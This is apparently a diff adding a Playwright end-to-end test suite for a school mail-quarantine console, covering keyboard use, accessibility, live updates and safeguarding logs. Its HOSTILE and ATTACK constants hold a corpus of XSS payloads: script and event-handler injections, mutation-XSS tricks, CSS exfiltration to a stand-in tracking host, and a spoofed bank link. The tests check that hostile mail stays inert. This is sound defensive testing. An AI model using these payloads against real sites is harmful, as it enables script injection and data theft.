@@ -1,0 +1,336 @@
+"""The console in a real browser: the keyboard alone, accessibility in both themes, and hostile mail that lies still."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Literal
+
+import pytest
+from playwright.sync_api import Browser as Chromium
+from playwright.sync_api import BrowserContext, Page, expect
+from support.console import PASSWORD, Desk, safeguarding, school_week, sealed, served
+from support.quarantine import MESSAGE, held
+
+from gatepost_quarantine.audit import Verb
+from gatepost_quarantine.held import HeldMessage, State
+from gatepost_quarantine.review import Mark
+
+pytestmark = [pytest.mark.slow, pytest.mark.e2e]
+
+AXE = Path(__file__).parent / "vendor" / "axe.min.js"
+PICTURE_LIMIT = 300_000
+
+
+class Watched:
+    """A browser window that remembers what it asked for, what failed, and every dialogue that a script opened."""
+
+    def __init__(self, context: BrowserContext, url: str) -> None:
+        self.url = url
+        self.asked: list[str] = []
+        self.errors: list[str] = []
+        self.dialogues: list[str] = []
+        self.page: Page = context.new_page()
+        self.page.set_default_timeout(45_000)
+        self.page.on("request", lambda request: self.asked.append(request.url))
+        self.page.on("console", lambda said: self.errors.append(said.text) if said.type == "error" else None)
+        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
+        self.page.on("dialog", lambda dialogue: (self.dialogues.append(dialogue.message), dialogue.dismiss()))
+
+    def go(self, path: str) -> Page:
+        """Open a page of the console."""
+        self.page.goto(self.url + path)
+        return self.page
+
+    def sign_in(self, name: str) -> None:
+        """Sign in with the keyboard."""
+        self.go("/sign-in")
+        self.page.keyboard.type(name)
+        self.page.keyboard.press("Tab")
+        self.page.keyboard.type(PASSWORD)
+        self.page.keyboard.press("Enter")
+        self.page.wait_for_url(re.compile(r"/(queue|overview)$"))
+
+    def outside(self) -> list[str]:
+        """What the browser asked of anybody but the console."""
+        return [each for each in self.asked if not each.startswith((self.url, "about:"))]
+
+
+@pytest.fixture
+def window(desk: Desk, chromium: Chromium) -> Iterator[Watched]:
+    """A window of a browser at a running console."""
+    with served(desk.app) as url:
+        context = chromium.new_context(viewport={"width": 1280, "height": 800})
+        yield Watched(context, url)
+        context.close()
+
+
+def test_from_sign_in_to_release_by_keyboard_only(desk: Desk, window: Watched) -> None:
+    """j moves, Enter opens, r releases, Esc returns to the same row; no mouse is near."""
+    kept = [
+        each for each in school_week(desk, count=5) if desk.store.get(each.id).recipients[0].state is State.HELD
+    ]
+    oldest_first = sorted(kept, key=lambda each: each.received_at)
+    window.sign_in("rita")
+    page = window.page
+    keys = page.keyboard
+    keys.press("j")
+    keys.press("j")
+    assert page.evaluate("document.activeElement.closest('tr').id") == f"row-{oldest_first[1].id}"
+    keys.press("Enter")
+    page.wait_for_url(f"**/held/{oldest_first[1].id}")
+    keys.press("Escape")
+    page.wait_for_url(re.compile(r"/queue#row-"))
+    expect(page.locator(f"#row-{oldest_first[1].id} .open")).to_be_focused()
+    keys.press("Enter")
+    page.wait_for_url("**/held/**")
+    keys.press("r")
+    page.wait_for_url("**/act?**")
+    expect(page.get_by_role("button", name="Release")).to_be_focused()
+    keys.press("Enter")
+    page.wait_for_url("**/held/**done=**")
+    assert "Released to" in page.inner_text("[role=status]")
+    assert desk.store.get(oldest_first[1].id).recipients[0].state is State.RELEASING
+
+    page.goto(window.url + "/queue")
+    keys.press("j")
+    keys.press("x")
+    keys.press("j")
+    keys.press("x")
+    assert page.inner_text("[data-count]") == "2"
+    keys.press("d")
+    page.wait_for_url("**/act?**")
+    keys.type("Not for us")
+    keys.press("Tab")
+    keys.press("Tab")
+    keys.press("Tab")
+    keys.press("Enter")
+    expect(page.get_by_role("heading", name="Deny: 2 of 2 done")).to_be_visible()
+    assert window.outside() == []
+    assert window.errors == []
+
+
+def test_keys_can_be_switched_off_and_never_act_while_typing(desk: Desk, window: Watched) -> None:
+    """Speech input and screen readers send single letters, too (WCAG 2.1.4)."""
+    school_week(desk, count=2)
+    window.sign_in("rita")
+    page = window.page
+    page.keyboard.press("/")
+    page.keyboard.type("jx?r")
+    assert page.input_value("#search") == "jx?r"
+    page.keyboard.press("Escape")
+    page.keyboard.press("?")
+    expect(page.get_by_role("dialog")).to_be_visible()
+    page.get_by_label("Use single-key shortcuts").uncheck()
+    page.keyboard.press("Escape")
+    page.keyboard.press("j")
+    assert page.evaluate("document.activeElement.closest('tr')") is None
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_every_page_passes_axe(desk: Desk, chromium: Chromium, theme: str) -> None:
+    """No violation at all, at desktop and phone width; what is sealed, refused or empty is looked at too."""
+    kept = school_week(desk, count=14)
+    desk.keep(sealed())
+    rule = "executable-attachment"
+    desk.review.mark(Mark(held_id=kept[0].id, rule=rule, actor="rita", note="", at=kept[0].received_at))
+    desk.review.doom(kept[1].id, actor="rita", reason="", due_at=desk.clock().replace(year=2099))
+    one, two = kept[0].id, kept[2].id
+    pages = [
+        "/queue", "/queue?tab=all&q=invoice&rule=executable-attachment", "/queue?q=nothing-matches", f"/held/{one}",
+        f"/held/{kept[1].id}", f"/held/{kept[5].id}", f"/act?verb=release&id={one}", f"/act?verb=deny&id={one}&id={two}",
+        f"/act?verb=delete&id={one}", f"/act?verb=mark&id={one}", f"/act?verb=pass-on&id={one}", "/overview", "/policy",
+        f"/held/{one}/raw", f"/held/{one}/body", "/held/none",
+    ]  # fmt: skip
+    found: list[str] = []
+    with served(desk.app) as url:
+        for width in (1280, 390):
+            context = chromium.new_context(viewport={"width": width, "height": 800}, color_scheme=_scheme(theme))
+            window = Watched(context, url)
+            found += _violations(window.go("/sign-in"), f"/sign-in {width}")
+            window.sign_in("rita")
+            for path in pages:
+                found += _violations(window.go(path), f"{path} {width}")
+            page = window.go(f"/held/{one}")
+            page.click("#open-body")
+            page.wait_for_selector("pre.mail")
+            for summary in page.locator("main details > summary").all():
+                summary.click()
+            found += _violations(page, f"open message {width}")
+            page.click(".me summary")
+            found += _violations(page, f"menu {width}")
+            assert page.evaluate("document.documentElement.scrollWidth") <= width, (
+                f"{width}: wider than the window"
+            )
+            context.close()
+        context = chromium.new_context(color_scheme=_scheme(theme))
+        window = Watched(context, url)
+        window.sign_in("adm")
+        found += _violations(window.go("/accounts"), "/accounts")
+        context.close()
+    assert found == []
+
+
+def _scheme(theme: str) -> Literal["light", "dark"]:
+    return "dark" if theme == "dark" else "light"
+
+
+def _violations(page: Page, where: str) -> list[str]:
+    # Evaluated by the debugger, which our own policy does not bind.
+    page.evaluate(AXE.read_text(encoding="utf-8"))
+    result = page.evaluate("axe.run(document, {iframes: false})")
+    return [
+        f"{where}: {each['id']}: {each['help']}: {each['nodes'][0]['html'][:200]}" for each in result["violations"]
+    ]
+
+
+HOSTILE = (
+    "<script>alert('ran')</script><img src=https://track.example/1.png onerror=\"alert('ran')\">"
+    "<svg onload=\"alert('ran')\"><animate onbegin=alert('ran') attributeName=x dur=1s></svg>"
+    "<style>body{background:url(https://track.example/css)}@import 'https://track.example/i.css';"
+    "input[value^=a]{background:url(https://track.example/a)}</style>"
+    "<link rel=stylesheet href=https://track.example/x.css><link rel=prefetch href=https://track.example/p>"
+    "<iframe srcdoc=\"<script>parent.alert('ran')</script>\"></iframe><base href=https://track.example/>"
+    "<form action=https://track.example/f><input name=a autofocus onfocus=\"alert('ran')\"><button>Go</button></form>"
+    "<a href=\"javascript:alert('ran')\">click</a><a href='https://evil.example/x'>https://bank.example/login</a>"
+    "<meta http-equiv=refresh content='0;url=https://track.example/m'><video src=https://track.example/v autoplay>"
+    "<object data=https://track.example/o></object><embed src=https://track.example/e>"
+    "<noscript><p title=\"</noscript><img src=x onerror=alert('ran')>\"></noscript>"
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('ran')&gt;\">"
+    "</mglyph></table></mtext></math><svg></p><style><a id=\"</style><img src=1 onerror=alert('ran')>\">"
+    '<div style="background:url(https://track.example/s);position:fixed;inset:0">over everything</div>'
+    "<details open ontoggle=alert('ran')>x</details><p>End of it</p>"
+)
+
+ATTACK = "\"><script>alert('ran')</script><img src=https://track.example/h onerror=alert('ran')>"
+
+
+def _hostile() -> tuple[HeldMessage, bytes]:
+    """A message with an attack in every place that a page shows."""
+    content = (
+        f"From: {ATTACK} <a@b.example>\r\nTo: {ATTACK} <c@d.example>\r\nSubject: {ATTACK}\r\nX-{ATTACK}: x\r\n"
+        f"X-Attack: {ATTACK}\r\nMessage-ID: <{ATTACK}@x>\r\n"
+        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
+        f"{ATTACK}\r\n--b\r\nContent-Type: text/html\r\n\r\n{HOSTILE}\r\n--b\r\n"
+        f'Content-Type: image/svg+xml; name="{ATTACK.replace(chr(34), "")}.svg"\r\n\r\n'
+        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('ran')\"/>\r\n--b--\r\n"
+    ).encode()
+    message = held(
+        content,
+        subject=ATTACK,
+        from_header=f"{ATTACK} <a@b.example>",
+        message_id=f"<{ATTACK}@x>",
+        attachments=(
+            {"name": ATTACK, "path": ATTACK, "claimed": ATTACK, "detected": ATTACK, "classes": [ATTACK]},
+        ),
+    )
+    return message, content
+
+
+def test_hostile_mail_lies_still(desk: Desk, window: Watched) -> None:
+    """Script, styles, frames, forms and mutations in every place: nothing runs, and no request leaves."""
+    message, content = _hostile()
+    desk.keep(message, content)
+    window.sign_in("rita")
+    page = window.go("/queue")
+    window.go(f"/held/{message.id}")
+    page.click("#open-body")
+    page.wait_for_selector("pre.mail")
+    for summary in page.locator("main details > summary").all():
+        summary.click()
+    frame = page.frame_locator("iframe").last
+    expect(frame.get_by_text("End of it")).to_be_visible()
+    assert "[evil.example]" in frame.locator("body").inner_text()
+    assert (
+        frame.locator("a, img, script, svg, style ~ style, form, iframe, input, link, meta[http-equiv]").count()
+        == 0
+    )
+    frame.get_by_text("click").click()
+    box = frame.get_by_text("over everything").bounding_box()
+    assert box is not None
+    assert box["height"] < 100
+    window.go(f"/held/{message.id}/raw")
+    window.go(f"/held/{message.id}/html/1")
+    expect(page.get_by_text("End of it")).to_be_visible()
+    window.go(f"/act?verb=deny&id={message.id}")
+    window.go("/overview")
+    assert window.dialogues == []
+    assert window.outside() == []
+    refused = [each for each in window.errors if "Content Security Policy" in each or "Refused" in each]
+    assert refused == [], "the cleaning should leave nothing for the policy to stop"
+
+
+def test_the_frame_would_stop_a_script_that_got_through_the_cleaning(
+    desk: Desk, window: Watched, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The second wall is tried without the first: uncleaned HTML in the frame still does nothing."""
+    message, content = _hostile()
+    desk.keep(message, content)
+    from gatepost_quarantine.console import preview
+
+    def uncleaned(self: preview.Reader, content: Iterator[bytes]) -> preview.Preview:
+        b"".join(content)
+        text = preview.Text(where="part 1", html=True, text="x", clean=HOSTILE, cut=False)
+        return preview.Preview(headers=(), texts=(text,), files=(), parts=(), defects=())
+
+    monkeypatch.setattr(preview.Reader, "preview", uncleaned)
+    window.sign_in("rita")
+    page = window.go(f"/held/{message.id}")
+    page.click("#open-body")
+    page.click("details.formatted summary")
+    expect(page.frame_locator("iframe").first.get_by_text("End of it")).to_be_attached()
+    page.wait_for_load_state("networkidle")
+    assert window.dialogues == []
+    answered = [each for each in window.outside() if not each.startswith(("https://track.example", "data:"))]
+    assert answered == []
+
+
+def test_a_page_learns_of_new_messages_and_keeps_its_place(desk: Desk, window: Watched) -> None:
+    """Ticks and focus stay; what a colleague decided shows in its row."""
+    kept = school_week(desk, count=4)
+    window.sign_in("rita")
+    page = window.page
+    page.keyboard.press("j")
+    page.keyboard.press("x")
+    focused = page.evaluate("document.activeElement.closest('tr').id")
+    desk.store.deny(kept[0].id, actor="colleague")
+    desk.keep(held(MESSAGE, received_at=desk.clock()))
+    page.evaluate("htmx.trigger('#shown', 'submit')")
+    expect(page.locator("#news")).to_contain_text("1 new message")
+    expect(page.locator(f"#state-{kept[0].id}")).to_contain_text("Denied")
+    assert page.evaluate("document.activeElement.closest('tr').id") == focused
+    assert page.inner_text("[data-count]") == "1"
+
+
+def test_a_confidential_message_is_opened_by_safeguarding_and_recorded(desk: Desk, window: Watched) -> None:
+    """The safeguarding lead's way, in the browser."""
+    message = desk.keep(safeguarding())
+    window.sign_in("sam")
+    page = window.page
+    page.click("text=Concern about a pupil")
+    expect(page.get_by_text("Confidential")).to_be_visible()
+    page.click("#open-body")
+    expect(page.locator("pre.mail")).to_contain_text("Please open the attached program.")
+    assert [each.verb for each in desk.store.events(message.id)] == [Verb.HOLD, Verb.READ]
+
+
+def test_the_picture_of_the_front_page_is_of_today(
+    desk: Desk, chromium: Chromium, root: Path, request: pytest.FixtureRequest, tmp_path: Path
+) -> None:
+    """quarantine/console.png shows a real page; ``--rewrite-golden`` takes it anew."""
+    kept = school_week(desk)
+    where = root / "quarantine" / "console.png"
+    target = where if request.config.getoption("--rewrite-golden") else tmp_path / "console.png"
+    with served(desk.app) as url:
+        context = chromium.new_context(viewport={"width": 1280, "height": 800}, color_scheme="light")
+        window = Watched(context, url)
+        window.sign_in("rita")
+        page = window.page
+        page.keyboard.press("j")
+        page.keyboard.press("x")
+        page.screenshot(path=target)
+        assert page.locator("tbody tr").count() == len(kept) - 4
+        context.close()
+    assert target.read_bytes().startswith(b"\x89PNG")
+    assert 20_000 < where.stat().st_size < PICTURE_LIMIT
